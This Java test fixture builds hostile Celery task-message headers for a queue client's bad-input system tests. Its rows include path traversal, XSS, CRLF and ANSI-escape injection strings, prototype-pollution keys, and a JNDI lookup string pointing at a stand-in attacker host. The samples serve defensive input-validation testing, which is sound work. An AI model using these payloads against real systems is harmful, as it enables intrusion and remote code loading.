package io.skirret.systemtests.badinput;

import static io.skirret.systemtests.badinput.Forged.EXPIRES;
import static io.skirret.systemtests.badinput.Forged.RUNS;
import static io.skirret.systemtests.badinput.Forged.WAITS;
import static io.skirret.systemtests.badinput.Forged.row;

import java.time.Duration;
import java.util.ArrayList;
import java.util.Date;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/** Messages that are hostile in their headers: Celery's, ours, and what an application adds. */
final class HostileHeaders {

    private HostileHeaders() {}

    static List<Forged> envelope() {
        return List.of(
                row("no headers at all", "not-protocol-2").headers(null),
                row("an empty table of headers", "not-protocol-2").headers(Map.of()),
                row("headers of something else", "not-protocol-2").headers(Map.of("event", "order.created")),
                row("protocol 1", "protocol-1-unsupported")
                        .headers(null)
                        .body("{\"task\": \"bad.good\", \"id\": \"x\", \"args\": [], \"kwargs\": {}}"),
                row("task is null", "not-protocol-2").header("task", null),
                row("task is a number", "bad-header-type").header("task", 5),
                row("task is a truth", "bad-header-type").header("task", true),
                row("task is bytes", "bad-header-type").header("task", new byte[] {'b', 'a', 'd'}),
                row("task is a table", "bad-header-type").header("task", Map.of("task", "bad.good")),
                row("task is an array", "bad-header-type").header("task", List.of("bad.good")),
                row("task is a time", "bad-header-type").header("task", new Date(0)));
    }

    static List<Forged> identity() {
        return List.of(
                row("no id", "bad-id").without("id"),
                row("id is null", "bad-id").header("id", null),
                row("id is empty", "bad-id").header("id", ""),
                row("id is blank", "bad-id").header("id", "  "),
                row("id is a number", "bad-id").header("id", 7),
                row("id of 10 KB", "bad-id").header("id", "x".repeat(10_000)),
                row("id of 256 bytes", "bad-id").header("id", "x".repeat(256)),
                row("id with a line break", "bad-id").header("id", "a\r\nINJECTED"),
                row("id with an escape", "bad-id").header("id", "a\u001b[31m"),
                row("id with a direction mark", "bad-id").header("id", "a\u202eb"),
                row("id with NUL", "bad-id").header("id", "a\u0000b"),
                row("id that is no UUID", RUNS).header("id", "order-17"),
                row("id with HTML", RUNS).header("id", "<script>alert(1)</script>"),
                row("id that is not the correlation id", RUNS).with(p -> p.correlationId("another")),
                row("root_id is a number", "bad-header-type").header("root_id", 5),
                row("parent_id of 10 KB", "bad-id").header("parent_id", "x".repeat(10_000)));
    }

    static List<Forged> names() {
        return Stream.of(
                        "../../etc/passwd",
                        "java.lang.Runtime.exec",
                        "<script>alert(1)</script>",
                        "\"><img src=x onerror=alert(1)>",
                        "x".repeat(255),
                        "x".repeat(5_000),
                        "",
                        " ",
                        "bad.good ",
                        "BAD.GOOD",
                        "bad.g\u03bfod",
                        "bad.good\u0000",
                        "bad.good\u200b",
                        "\u202edoog.dab",
                        "bad.good\r\nINJECTED",
                        "\u001b[2Jbad.good",
                        "${jndi:ldap://evil.example/x}",
                        "io.skirret.systemtests.badinput.BadInputTasks.good",
                        "celery.backend_cleanup")
                .map(name -> row(
                                "task " + (name.length() > 60 ? name.length() + " bytes" : escaped(name)),
                                "unknown-task")
                        .task(name))
                .toList();
    }

    static List<Forged> retries() {
        List<Forged> rows = new ArrayList<>();
        for (Object bad : new @Nullable Object[] {
            -1, 2_147_483_648L, "3", 3.5, null, 1_000_000_000_000_000_000L, true, List.of(), Long.MIN_VALUE
        }) {
            rows.add(row("retries " + bad, "bad-retries").header("retries", bad));
        }
        rows.add(row("retries beyond the task's maximum", "retries-exhausted")
                .task("bad.fail")
                .header("retries", 1_000));
        rows.add(row("as many retries as there are numbers", "retries-exhausted")
                .task("bad.fail")
                .header("retries", Integer.MAX_VALUE));
        return rows;
    }

    static List<Forged> times() {
        List<Forged> rows = new ArrayList<>();
        for (Object bad : new Object[] {
            "soon",
            "infinity",
            "",
            1_795_298_391L,
            12.5,
            "2026-02-30T00:00:00+00:00",
            "2020-01-01T24:00:00+00:00",
            "2016-12-31T23:59:60+00:00",
            "2020-01-01T00:00:00+25:00",
            "2020-01-01T00:00:00Europe/Nowhere",
            "\u0662\u0660\u0662\u0660-01-01T00:00:00",
            "+292278994-08-17T07:12:55Z",
            "2020-01-01T00:00:00+00:00" + " ".repeat(5_000),
            Map.of(),
            new Date(0)
        }) {
            String shown = String.valueOf(bad).length() > 60 ? "of 5 KB" : escaped(String.valueOf(bad));
            rows.add(row("eta " + shown, "bad-time").header("eta", bad));
            rows.add(row("expires " + shown, "bad-time").header("expires", bad));
        }
        for (String past : List.of(
                "2020-01-01T00:00:00.123456+00:00",
                "2020-01-01T00:00:00.123456789Z",
                "2020-01-01T00:00:00",
                "2020-01-01",
                "2020-01-01T00:00:00-00:00",
                "0001-01-01T00:00:00+00:00")) {
            rows.add(row("eta " + past, RUNS).header("eta", past));
            rows.add(row("expires " + past, EXPIRES).header("expires", past));
        }
        rows.add(row("eta in a moment", WAITS, RUNS).header("eta", Duration.ofMillis(300)));
        rows.add(row("eta in ten thousand years", WAITS).header("eta", "9999-12-31T23:59:59.999999+00:00"));
        rows.add(row("expired before it is due", EXPIRES)
                .header("eta", "9999-12-31T23:59:59.999999+00:00")
                .header("expires", "2020-01-01T00:00:00+00:00"));
        return rows;
    }

    static List<Forged> headers() {
        return List.of(
                row("lang of 1 KB", RUNS).header("lang", "x".repeat(1_024)),
                row("lang is a number", RUNS).header("lang", 1),
                row("origin with HTML and line breaks", RUNS).header("origin", "gen1@<b>\r\nevil</b>"),
                row("shadow of another task", RUNS).header("shadow", "bad.add"),
                row("utc is false", RUNS).header("utc", false),
                row("hostile stamps", RUNS)
                        .header("stamps", Map.of("__proto__", Map.of("id", "x")))
                        .header("stamped_headers", List.of("id", "task", "__proto__")),
                row("ignore_result is text", "bad-header-type").header("ignore_result", "yes"),
                row("timelimit is a number", "bad-header-type").header("timelimit", 5),
                row("timelimit of one", "bad-header-type").header("timelimit", List.of(1)),
                row("timelimit of text", "bad-header-type").header("timelimit", List.of("1", "2")),
                row("timelimit below none", "bad-header-type").header("timelimit", List.of(-1, -1)),
                row("timelimit beyond all", "bad-header-type").header("timelimit", List.of(1e300, 1e300)),
                row("a header of 100 KB, and a dead letter", "bad-json")
                        .header("baggage", "x".repeat(100_000))
                        .body("x"),
                row("a thousand headers, and a dead letter", "bad-json")
                        .headers(many())
                        .body("x"),
                row("headers 30 deep, and a dead letter", "bad-json")
                        .header("deep", nested(29))
                        .body("x"),
                row("a header that is nested more deeply than the client reads", "bad-header-type")
                        .header("deep", nested(40)));
    }

    /** Headers of our own, forged. */
    static List<Forged> ours() {
        return List.of(
                row("an unknown policy", RUNS).header("skirret_policy", "no-such-policy"),
                row("a policy that is a number", "bad-header-type").header("skirret_policy", 5),
                row("attempts that are text", RUNS).header("skirret_attempts", "{{{"),
                row("attempts of a wrong type, in a failure", "retries-exhausted")
                        .task("bad.fail")
                        .header("retries", 2)
                        .header("skirret_attempts", Map.of("x", List.of(1, 2))),
                row("priority of ours that is none", RUNS).header("skirret_priority", "high"),
                row("redelivered that is text", RUNS).header("skirret_redelivered", "many"),
                row("redelivered below none", RUNS).header("skirret_redelivered", Long.MIN_VALUE),
                row("redelivered beyond all, marked for nothing", RUNS).header("skirret_redelivered", Long.MAX_VALUE),
                row("redelivered beyond all, marked for another attempt", RUNS)
                        .header("skirret_redelivered", Long.MAX_VALUE)
                        .header("skirret_marked_for", "7 another"),
                row("unknown delays that are text", RUNS).header("skirret_unknown_delays", "x"),
                row("replays that are text", "bad-json")
                        .header("skirret_replays", "x")
                        .body("x"),
                row("a dead letter's reason before it is one", "bad-json")
                        .header("skirret_dead_reason", "rejected")
                        .header("skirret_dead_queue", "elsewhere")
                        .body("x"));
    }

    private static Map<String, @Nullable Object> many() {
        Map<String, @Nullable Object> headers = new HashMap<>();
        headers.put("task", "bad.good");
        headers.put("id", UUID.randomUUID().toString());
        for (int i = 0; i < 1_000; i++) {
            headers.put("x-header-" + i, i);
        }
        return headers;
    }

    static Map<String, Object> nested(int depth) {
        Map<String, Object> table = Map.of("end", 1);
        for (int i = 1; i < depth; i++) {
            table = Map.of("deeper", table);
        }
        return table;
    }

    private static String escaped(String text) {
        StringBuilder safe = new StringBuilder();
        text.chars().forEach(c -> safe.append(c < ' ' || c > '~' ? "\\u%04x".formatted(c) : String.valueOf((char) c)));
        return safe.toString();
    }
}
